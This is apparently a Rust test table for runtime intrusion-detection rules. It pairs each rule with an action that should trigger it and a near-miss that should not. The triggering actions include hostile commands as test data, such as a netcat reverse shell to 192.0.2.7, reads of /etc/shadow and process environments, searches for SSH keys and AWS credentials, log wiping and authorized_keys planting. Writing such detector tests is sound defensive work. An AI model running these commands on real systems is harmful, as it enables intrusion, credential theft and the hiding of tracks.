//! Every action: what is done, where, and what must be said of it.

use super::act::Place::{First, Host, Mapped, Plain, Privileged};
use super::act::{Action, Place, on};

const USUAL: Place = First { terminal: false, capabilities: "" };

/// Of the stable and incubating rules.
pub(super) const UPSTREAM: &[Action] = &[
    // Stable.
    on(
        "Directory traversal monitored file read",
        Host,
        "B/reader reader @cd /var/log @read ../../etc/../etc/bt-settings",
        "fd.name=/etc/bt-settings; fd.nameraw=../../etc/../etc/bt-settings",
        "B/reader reader @cd /var @read ../etc/bt-settings @read ../var/../home/bt-file",
    ),
    on(
        "Directory traversal monitored file read",
        Plain,
        "B/reader reader @try /root/x/../../etc/../etc/missing",
        "fd.name=/etc/missing; fd.num=-1; evt.res=ENOENT",
        "B/reader reader @try /etc/missing",
    ),
    on(
        "Read sensitive file trusted after startup",
        Host,
        "B/httpd httpd @sleep 5300 @read /etc/shadow",
        "fd.name=/etc/shadow",
        "B/sshd sshd @sleep 5300 @read /etc/shadow",
    )
    .with("&")
    .also(&["Read sensitive file untrusted"]),
    on(
        "Read sensitive file untrusted",
        Host,
        "B/reader reader @read /etc/shadow",
        "fd.name=/etc/shadow",
        "B/reader reader @read /etc/passwd @try-write /etc/shadow",
    ),
    on(
        "Read sensitive file untrusted",
        Plain,
        "B/reader reader @symlink /etc/shadow /tmp/bt-link @read /tmp/bt-link",
        "fd.name=/etc/shadow; evt.type=openat",
        "B/sshd sshd @read /etc/shadow",
    )
    .also(&["Create Symlink Over Sensitive Files"]),
    on(
        "Read sensitive file untrusted",
        Mapped,
        "B/reader reader @read /etc/shadow",
        "fd.name=/etc/shadow; user.uid=100000; user.name=root",
        "B/reader reader @read /etc/passwd",
    ),
    on(
        "Run shell untrusted",
        Plain,
        "B/httpd httpd @run B/bash bash -c id",
        "proc.aname[2]=bt-driver",
        "B/editor editor @run B/bash bash -c id",
    ),
    on(
        "System user interactive",
        Host,
        "B/sshd sshd @run B/who who",
        "user.name=daemon",
        "B/sshd sshd @run B/sshd sshd",
    )
    .by(1),
    on("Terminal shell in container", First { terminal: true, capabilities: "" }, "B/sh sh", "", "B/editor editor"),
    on(
        "Contact K8S API Server From Container",
        Plain,
        "B/client client @connect 10.96.0.1 6443",
        "fd.sip=10.96.0.1; fd.sport=6443",
        "B/client client @connect 10.96.0.9 6443",
    )
    .with("KUBERNETES_SERVICE_HOST=10.96.0.1"),
    on(
        "Netcat Remote Code Execution in Container",
        Plain,
        "B/nc nc 192.0.2.7 4444 -e /bin/sh",
        "",
        "B/reader reader 192.0.2.7 4444 -e /bin/sh",
    )
    .also(&["Launch Suspicious Network Tool in Container"]),
    on("Search Private Keys or Passwords", Host, "B/find find / -name id_rsa", "", "B/find find / -name notes"),
    on("Search Private Keys or Passwords", Plain, "B/grep grep -r BEGIN~RSA~PRIVATE /", "", "B/grep grep -r BEGIN /"),
    on(
        "Clear Log Activities",
        Plain,
        "B/cleaner cleaner @truncate /var/log/syslog",
        "fd.name=/var/log/syslog",
        "B/cleaner cleaner @append /var/log/syslog",
    ),
    on("Remove Bulk Data from Disk", Plain, "B/shred shred /tmp/x", "", "B/shredder shredder /tmp/x"),
    on(
        "Create Symlink Over Sensitive Files",
        Plain,
        "B/linker linker @symlink /etc /tmp/bt-folder",
        "evt.arg.target=/etc; evt.arg.linkpath=/tmp/bt-folder",
        "B/linker linker @symlink /etc/hosts /tmp/bt-hosts",
    ),
    on(
        "Create Hardlink Over Sensitive Files",
        Plain,
        "B/linker linker @link /etc/shadow /etc/bt-shadow",
        "evt.arg.oldpath=/etc/shadow; evt.arg.newpath=/etc/bt-shadow",
        "B/linker linker @link /etc/passwd /etc/bt-passwd",
    ),
    on(
        "Packet socket created in container",
        Plain,
        "B/sniffer sniffer @packet-socket",
        "evt.arg.domain=AF_PACKET",
        "B/sniffer sniffer @stream-socket",
    ),
    on(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        Plain,
        "B/shell-back shell-back @stdin-socket 192.0.2.7 4445",
        "fd.sip=192.0.2.7; fd.sport=4445; fd.num=0",
        "B/shell-back shell-back @stdin-file /etc/passwd @socket-aside 192.0.2.7 4446",
    ),
    on("Linux Kernel Module Injection Detected", Privileged, "B/loader loader @module", "", "B/loader loader"),
    on("Debugfs Launched in Privileged Container", Privileged, "B/debugfs debugfs", "", "B/debug debug"),
    on(
        "Detect release_agent File Container Escapes",
        Privileged,
        "B/escape escape @append /tmp/release_agent",
        "fd.name=/tmp/release_agent",
        "B/escape escape @read /tmp/release_agent",
    ),
    on(
        "PTRACE attached to process",
        Host,
        "B/tracer tracer @attach",
        "evt.arg.request=PTRACE_ATTACH",
        "B/tracer tracer @peek",
    ),
    on(
        "PTRACE anti-debug attempt",
        Plain,
        "B/hider hider @traceme",
        "evt.arg.request=PTRACE_TRACEME; proc.pname=hider",
        "B/hider hider @peek",
    ),
    on("Find AWS Credentials", Plain, "B/find find / -name .aws/credentials", "", "B/find find / -name credentials"),
    on("Find AWS Credentials", Host, "B/grep grep -r aws_access_key_id /", "", "B/grep grep -r access /"),
    on(
        "Execution from /dev/shm",
        Host,
        "B/dropper dropper @copy-self /dev/shm/bt-run @exec /dev/shm/bt-run /dev/shm/bt-run now",
        "proc.exepath=/dev/shm/bt-run",
        "B/dropper dropper @copy-self /home/bt-run @exec /home/bt-run /home/bt-run now",
    ),
    on(
        "Drop and execute new binary in container",
        Plain,
        "B/dropper dropper @copy-self /opt/bt-new @run /opt/bt-new bt-new",
        "proc.exepath=/opt/bt-new",
        "B/dropper dropper @copy-self /opt/bt-other @run B/reader reader",
    ),
    on(
        "Disallowed SSH Connection Non Standard Port",
        Host,
        "B/ssh ssh @begin-connect 192.0.2.7 4444 @connect 192.0.2.7 443",
        "fd.sip=192.0.2.7; fd.sport=443; fd.l4proto=tcp",
        "B/ssh ssh @connect 192.0.2.7 22 @connect 10.96.0.1 443",
    )
    .also(&["Disallowed SSH Connection Non Standard Port"]),
    on(
        "Fileless execution via memfd_create",
        Plain,
        "B/loader loader @memory bt-memory now",
        "proc.name=*; proc.cmdline=*; proc.is_exe_from_memfd=true",
        "B/loader loader @run B/reader reader now",
    ),
    // Incubating.
    on(
        "Modify Shell Configuration File",
        Plain,
        "B/planter planter @append /home/me/.bashrc",
        "fd.name=/home/me/.bashrc",
        "B/planter planter @read /home/me/.bashrc @append /home/me/notes",
    ),
    on(
        "Schedule Cron Jobs",
        Plain,
        "B/planter planter @write /etc/cron.d/bt-job",
        "fd.name=/etc/cron.d/bt-job",
        "B/planter planter @read /etc/cron.d/bt-job @write /etc/bt-cron",
    ),
    on("Schedule Cron Jobs", Host, "B/crontab crontab -e", "", "B/editor editor -e"),
    on(
        "Read ssh information",
        Host,
        "B/reader reader @read /root/.ssh/config",
        "fd.name=/root/.ssh/config",
        "B/ssh ssh @read /root/.ssh/config",
    ),
    on(
        "Read ssh information",
        Plain,
        "B/reader reader @dir /home/me/.ssh/keys",
        "fd.name=/home/me/.ssh/keys; fd.type=directory",
        "B/reader reader @dir /home/me",
    ),
    on(
        "DB program spawned process",
        Plain,
        "B/mysqld mysqld @run B/ls ls -l",
        "proc.pname=mysqld",
        "B/mysqld mysqld @run B/postgres postgres",
    ),
    on("Change thread namespace", Host, "B/mover mover @setns", "container.id=host", "B/nsenter nsenter @setns"),
    on("Change thread namespace", Plain, "B/mover mover @setns", "", "B/mover mover"),
    on(
        "Change namespace privileges via unshare",
        Plain,
        "B/mover mover @unshare",
        "evt.arg.flags=CLONE_NEWUTS; evt.res=EPERM",
        "B/mover mover @become-user",
    ),
    on(
        "Launch Privileged Container",
        First { terminal: false, capabilities: "all" },
        "B/reader reader",
        "",
        "B/reader reader",
    )
    .also(&["Launch Excessively Capable Container"]),
    on(
        "Launch Excessively Capable Container",
        First { terminal: false, capabilities: "CAP_SYS_PTRACE" },
        "B/reader reader",
        "",
        "B/reader reader",
    ),
    on(
        "System procs network activity",
        Plain,
        "B/sha1sum sha1sum @connect 192.0.2.7 8081",
        "fd.sip=192.0.2.7; fd.type=ipv4",
        "B/sha1sum sha1sum @connect 127.0.0.1 8082",
    ),
    on(
        "System procs network activity",
        Host,
        "B/bash bash @accept 192.0.2.7 8083",
        "fd.lip=192.0.2.7; evt.type=accept4",
        "B/client client @accept 192.0.2.7 8084",
    )
    .also(&["System procs network activity"]),
    on("Program run with disallowed http proxy env", Plain, "B/curl curl http://x/", "", "B/reader reader http://x/")
        .with("HTTP_PROXY=http://192.0.2.7"),
    on(
        "Unexpected UDP Traffic",
        Plain,
        "B/talker talker @udp 192.0.2.7 31337",
        "fd.sip=192.0.2.7; fd.sport=31337; fd.l4proto=udp",
        "B/talker talker @udp 192.0.2.7 53 @connect 192.0.2.7 31338",
    ),
    on(
        "Non sudo setuid",
        Host,
        "B/riser riser @setuid 0",
        "evt.arg.uid=root; evt.res=EPERM; user.name=daemon",
        "B/riser riser @setgid 1",
    )
    .by(1),
    on(
        "Non sudo setuid",
        Plain,
        "B/riser riser @setuid 7",
        "evt.arg.uid=keeper; evt.res=SUCCESS; user.name=keeper",
        "B/sshd sshd @setuid 7",
    )
    .by(7),
    on(
        "Non sudo setuid",
        Mapped,
        "B/riser riser @setuid 0 @setuid 9",
        "evt.arg.uid=root; evt.res=EPERM; user.uid=100007; user.name=keeper",
        "B/sshd sshd @setuid 0",
    )
    .by(7)
    .also(&["Non sudo setuid"]),
    on("User mgmt binaries", Host, "B/useradd useradd bt-user", "", "B/useradd useradd -D"),
    on(
        "Create files below dev",
        Plain,
        "B/planter planter @write /dev/bt-device",
        "fd.name=/dev/bt-device",
        "B/planter planter @write /dev/null",
    ),
    on(
        "Contact EC2 Instance Metadata Service From Container",
        Plain,
        "B/client client @connect 169.254.169.254 8085",
        "fd.sip=169.254.169.254; fd.sport=8085",
        "B/client client @connect 192.0.2.7 8086",
    )
    .also(&["Contact cloud metadata service from container"]),
    on(
        "Contact cloud metadata service from container",
        Plain,
        "B/client client @datagram 192.0.2.7 169.254.169.254 53",
        "fd.sip=169.254.169.254; fd.l4proto=udp; evt.type=sendto",
        "B/client client @datagram 192.0.2.7 10.96.0.9 53",
    )
    .also(&["Contact EC2 Instance Metadata Service From Container"]),
    on("Launch Package Management Process in Container", Plain, "B/apk apk add x", "", "B/apk-tool apk-tool add x"),
    on("Launch Suspicious Network Tool in Container", Plain, "B/nmap nmap 192.0.2.7", "", "B/mapper mapper 192.0.2.7"),
    on("Launch Suspicious Network Tool on Host", Host, "B/tcpdump tcpdump -i lo", "", "B/dump dump -i lo"),
    on(
        "Delete or rename shell history",
        Plain,
        "B/cleaner cleaner @append /tmp/.bash_history @unlink /tmp/.bash_history",
        "evt.arg.name=/tmp/.bash_history; evt.type=unlinkat",
        "B/cleaner cleaner @append /tmp/bt-history @unlink /tmp/bt-history",
    )
    .also(&["Modify Shell Configuration File"]),
    on(
        "Delete or rename shell history",
        Host,
        "B/cleaner cleaner @append /home/x_zsh_history @rename /home/x_zsh_history /home/gone",
        "evt.arg.oldpath=/home/x_zsh_history; evt.arg.newpath=/home/gone",
        "B/cleaner cleaner @append /home/bt-a @rename /home/bt-a /home/bt-b",
    ),
    on(
        "Set Setuid or Setgid bit",
        Plain,
        "B/riser riser @write /tmp/bt-riser @chmod /tmp/bt-riser 4755",
        "evt.arg.filename=/tmp/bt-riser; evt.type=chmod",
        "B/riser riser @write /tmp/bt-plain @chmod /tmp/bt-plain 1777",
    ),
    on("Launch Remote File Copy Tools in Container", Plain, "B/rsync rsync a b:", "", "B/copier copier a b:"),
    on("Mount Launched in Privileged Container", Privileged, "B/mount mount /dev/vda /mnt", "", "B/mount mount"),
    on(
        "Launch Ingress Remote File Copy Tools in Container",
        Plain,
        "B/wget wget http://x/",
        "",
        "B/curl curl http://x/",
    ),
    on(
        "Launch Ingress Remote File Copy Tools in Container",
        Plain,
        "B/curl curl http://x/ -o /tmp/x",
        "",
        "B/curl curl -I http://x/",
    ),
    on(
        "Read environment variable from /proc files",
        Plain,
        "B/reader reader @read /proc/1/environ",
        "fd.name=/proc/1/environ",
        "B/reader reader @read /proc/1/status",
    ),
    on(
        "Exfiltrating Artifacts via Kubernetes Control Plane",
        USUAL,
        "B/tar tar @read /srv/secret",
        "fd.name=/srv/secret; proc.vpid=1",
        "B/tar tar @read /etc/passwd",
    ),
    on(
        "Adding ssh keys to authorized_keys",
        Host,
        "B/planter planter @append /root/.ssh/authorized_keys",
        "fd.name=/root/.ssh/authorized_keys",
        "B/planter planter @append /root/.ssh/bt-known",
    ),
    on(
        "Potential Local Privilege Escalation via Environment Variables Misuse",
        Plain,
        "B/riser riser now",
        "",
        "B/riser riser now",
    )
    .with("GLIBC_TUNABLES=glibc.malloc.check=1")
    .beside("GLIBC_TUNES=glibc.malloc.check=1"),
    on(
        "Backdoored library loaded into SSHD (CVE-2024-3094)",
        Host,
        "B/sshd sshd @read /home/liblzma.so.5.6.0",
        "fd.name=/home/liblzma.so.5.6.0",
        "B/reader reader @read /home/liblzma.so.5.6.0",
    ),
    on(
        "BPF Program Not Profiled",
        Host,
        "B/filter filter @bpf-program",
        "evt.arg.cmd=BPF_PROG_LOAD",
        "B/filter filter @bpf-map",
    ),
];

/// Rules of those files that no action can match, and why.
pub(super) const NEVER: &[(&str, &str)] = &[(
    "Network Connection outside Local Subnet",
    "matches in the namespaces of a list that is empty as shipped: `k8s.ns.name in ()` is never true",
)];

/// Of our own rules about the further actions that the field's generator of events performs.
pub(super) const FURTHER: &[Action] = &[
    on(
        "bt shell of somebody else",
        Plain,
        "B/shell-back shell-back @stdin-socket 192.0.2.7 4447 @exec B/dash dash",
        "proc.stdin.type=ipv4; proc.stdin.server=192.0.2.7:4447; proc.stdout.type=pipe",
        "B/shell-back shell-back @stdin-file /etc/passwd @exec B/dash dash",
    )
    .also(&["Redirect STDOUT/STDIN to Network Connection in Container"]),
    on(
        "bt input exchanged",
        Host,
        "B/shell-back shell-back @stdin-socket 192.0.2.7 4448 @peek",
        "proc.stdin.type=ipv4; proc.stdin.server=192.0.2.7:4448",
        "B/shell-back shell-back @stdin-file /etc/passwd @peek",
    ),
    on(
        "bt drift by chmod",
        Plain,
        "B/dropper dropper @write /tmp/bt-drift @chmod /tmp/bt-drift 755",
        "evt.arg.filename=/tmp/bt-drift",
        "B/dropper dropper @write /tmp/bt-still @chmod /tmp/bt-still 644",
    ),
    on(
        "bt drift by open",
        Plain,
        "B/dropper dropper @make-program /tmp/bt-made",
        "fd.name=/tmp/bt-made; evt.is_open_exec=true",
        "B/dropper dropper @write /tmp/bt-unmade",
    ),
    on(
        "bt hidden file",
        Plain,
        "B/planter planter @mkdir /tmp/.bt-hidden",
        "evt.arg.path=/tmp/.bt-hidden",
        "B/planter planter @mkdir /tmp/bt-shown",
    ),
    on("bt payload decoded", Plain, "B/base64 base64 -d", "", "B/base64 base64"),
    on("bt miner protocol", Host, "B/miner miner stratum+tcp://192.0.2.7:1", "", "B/miner miner http://192.0.2.7:1"),
    on(
        "bt miner pool",
        Host,
        "B/miner miner @connect 192.0.2.7 3333",
        "fd.sip=192.0.2.7; fd.sport=3333",
        "B/miner miner @connect 192.0.2.7 3334",
    ),
    on(
        "bt interpreter serves",
        Host,
        "B/perl perl @accept 192.0.2.7 8087",
        "fd.lip=192.0.2.7; fd.lport=8087",
        "B/server server @accept 192.0.2.7 8088",
    ),
    on(
        "bt interpreter calls",
        Plain,
        "B/python3 python3 @connect 192.0.2.7 8089",
        "fd.sip=192.0.2.7; fd.sport=8089",
        "B/python3 python3 @connect 10.96.0.1 8090",
    ),
    on(
        "bt class file",
        Host,
        "B/java java @class-file 192.0.2.7 8091",
        "fd.l4proto=tcp; evt.type=recvfrom",
        "B/client client @class-file 192.0.2.7 8092",
    ),
    on("bt cluster client", Plain, "B/kubectl kubectl get pods", "", "B/reader reader get pods"),
    on(
        "bt folder below binaries",
        Plain,
        "B/planter planter @mkdir /usr/bin/bt-folder",
        "evt.arg.path=/usr/bin/bt-folder",
        "B/planter planter @mkdir /usr/share/bt-folder",
    ),
    on(
        "bt binaries changed",
        Plain,
        "B/planter planter @rename /usr/bin/bt-old /usr/bin/bt-new",
        "evt.arg.oldpath=/usr/bin/bt-old",
        "B/planter planter @write /tmp/bt-c @rename /tmp/bt-c /tmp/bt-d",
    ),
    on(
        "bt own program changed",
        Plain,
        "B/planter planter @try-write /proc/self/exe",
        "fd.name=/proc/self/exe",
        "B/planter planter @try /proc/self/exe",
    ),
    on("bt privileges by pkexec", Host, "B/pkexec pkexec", "", "B/pkexec pkexec ls").by(1),
    on(
        "bt shell settings read",
        Host,
        "B/reader reader @read /home/.bashrc",
        "fd.name=/home/.bashrc",
        "B/bash bash @read /home/.bashrc",
    ),
    on("bt privileges by sudoedit", Host, "B/sudoedit sudoedit -s x\\", "", "B/sudoedit sudoedit -s x").by(1),
    on(
        "bt node port",
        Plain,
        "B/client client @connect 192.0.2.7 30777",
        "fd.sport=30777",
        "B/client client @connect 192.0.2.7 29777",
    ),
    on("bt page faults handled", Host, "B/racer racer @faults", "evt.type=userfaultfd", "B/racer racer").by(1),
    on(
        "bt package sources",
        Plain,
        "B/planter planter @append /etc/apt/sources.list",
        "fd.name=/etc/apt/sources.list",
        "B/planter planter @read /etc/apt/sources.list",
    )
    .also(&["bt below etc"]),
    on(
        "bt below binaries",
        Plain,
        "B/planter planter @write /usr/bin/bt-written",
        "fd.name=/usr/bin/bt-written",
        "B/planter planter @write /usr/share/bt-written",
    ),
    on(
        "bt below etc",
        Plain,
        "B/planter planter @write /etc/bt-written",
        "fd.name=/etc/bt-written",
        "B/planter planter @write /srv/bt-written",
    ),
    on(
        "bt below monitored",
        Plain,
        "B/planter planter @write /usr/local/lib/bt-written",
        "fd.name=/usr/local/lib/bt-written",
        "B/planter planter @write /usr/local/bt-written",
    ),
    on(
        "bt below root",
        Plain,
        "B/planter planter @write /bt-written",
        "fd.name=/bt-written",
        "B/planter planter @write /opt/bt-written",
    ),
    on(
        "bt below rpm",
        Plain,
        "B/planter planter @write /var/lib/rpm/bt-written",
        "fd.name=/var/lib/rpm/bt-written",
        "B/planter planter @write /var/lib/bt-written",
    ),
];
